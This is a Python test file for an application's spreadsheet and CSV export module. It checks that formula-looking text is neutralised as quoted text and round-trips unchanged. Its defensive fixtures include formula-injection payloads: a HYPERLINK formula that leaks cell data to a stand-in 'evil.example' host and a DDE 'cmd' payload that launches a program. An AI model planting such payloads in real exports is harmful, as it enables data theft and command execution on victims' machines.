"""Exports write formula-looking text as text (.xlsx and CSV), read back unchanged; every export goes through
``domain.exports``."""

import io
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from youlin.domain import exports
from youlin.domain.tabular import Column, FileRefused, Table

DANGEROUS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"详情")', "+86 10 1234", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _sheet_xml(content: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()


def test_formula_looking_text_is_written_as_quoted_text_and_reads_back_unchanged():
    wb = exports.workbook()
    ws = wb.active
    exports.append(ws, DANGEROUS)
    exports.put(ws, 2, 1, "=cmd|' /C calc'!A0")
    exports.put(ws, 2, 2, 42)
    exports.put(ws, 2, 3, "普通文字")
    content = exports.workbook_bytes(wb)
    assert "<f>" not in _sheet_xml(content)  # no formula anywhere in the file
    back = load_workbook(io.BytesIO(content)).active
    assert [c.value for c in back[1]] == [*DANGEROUS[:-1], "\n=1"]  # XML reads CR as LF: it is written so
    assert all(c.data_type == "s" and c.quotePrefix for c in back[1][:-1])
    assert (back["A2"].value, back["B2"].value, back["C2"].value) == ("=cmd|' /C calc'!A0", 42, "普通文字")
    assert not back["C2"].quotePrefix


def test_a_cell_set_directly_is_neutralised_when_the_workbook_is_saved():
    wb = exports.workbook()
    ws = wb.active
    ws["A1"] = "=1+1"  # not through put(): the save still writes text
    ws.append(["=2+2"])
    content = exports.workbook_bytes(wb)
    assert "<f>" not in _sheet_xml(content)
    back = load_workbook(io.BytesIO(content)).active
    assert (back["A1"].value, back["A2"].value) == ("=1+1", "=2+2")


def test_characters_xml_cannot_hold_are_dropped_not_a_500():
    wb = exports.workbook()
    exports.put(wb.active, 1, 1, "堆物\x0b\x01清理\t完毕\r\n")
    wb.active.title = exports.sheet_title("2026/11 [整治]: 台账*?")
    back = load_workbook(io.BytesIO(exports.workbook_bytes(wb))).active
    assert back["A1"].value == "堆物清理\t完毕\n"
    assert back.title == "2026_11 _整治__ 台账__"


@given(st.text())
def test_csv_escape_round_trips_any_text(text):
    assert exports.csv_unescape(exports.csv_escape(text)) == text
    assert not exports.csv_escape(text).startswith(exports.FORMULA_TRIGGERS)


def test_csv_keeps_a_plain_leading_apostrophe_as_written_elsewhere():
    assert exports.csv_unescape("'13800138000") == "'13800138000"
    assert exports.csv_escape("'13800138000") == "''13800138000"


TABLE = Table(
    columns=(Column("name", ("名称",)), Column("note", ("备注",))),
    refused=lambda errors: FileRefused("refused", "refused", errors),
    rows_setting="YOULIN_LEDGER_IMPORT_MAX_ROWS",
    bytes_setting="YOULIN_LEDGER_IMPORT_MAX_BYTES",
)


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_an_export_imports_back_to_the_original_text(kind):
    rows = [["名称", "备注"], *([text, f"第{i}行"] for i, text in enumerate([*DANGEROUS, "'引号", "''两个"]))]
    if kind == "csv":
        content = exports.csv_bytes(rows)
        assert b"\n=" not in content and b",=" not in content and b",+" not in content
    else:
        wb = exports.workbook()
        for row in rows:
            exports.append(wb.active, row)
        content = exports.workbook_bytes(wb)
    reading = TABLE.reading(TABLE.read(content))
    expected = [r[0] if kind == "csv" else r[0].replace("\r", "\n") for r in rows[1:]]
    assert [r.text["name"] for r in reading.rows()] == [text.strip() for text in expected]


def test_download_names_the_file_and_its_type():
    response = exports.download(b"x", "台账.csv")
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    assert exports.download(b"x", "a.xlsx")["Content-Type"] == exports.XLSX_TYPE


# Building a workbook (or loading one to change and save) and writing CSV: only in domain.exports (and reading in
# domain.tabular).
WRITES = re.compile(r"\bWorkbook\b|\bload_workbook\b|\bcsv\.(writer|DictWriter)\b|\bwriterow")


def test_every_export_goes_through_domain_exports():
    """A new export that builds or saves a workbook, or writes CSV, by itself fails here: use ``domain.exports``."""
    root = Path(exports.__file__).resolve().parents[1]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.parts[-2:] in {("domain", "exports.py"), ("domain", "tabular.py")}:
            continue
        for number, line in enumerate(path.read_text().splitlines(), start=1):
            if WRITES.search(line):
                offenders.append(f"{path.relative_to(root)}:{number}: {line.strip()}")
    assert offenders == []
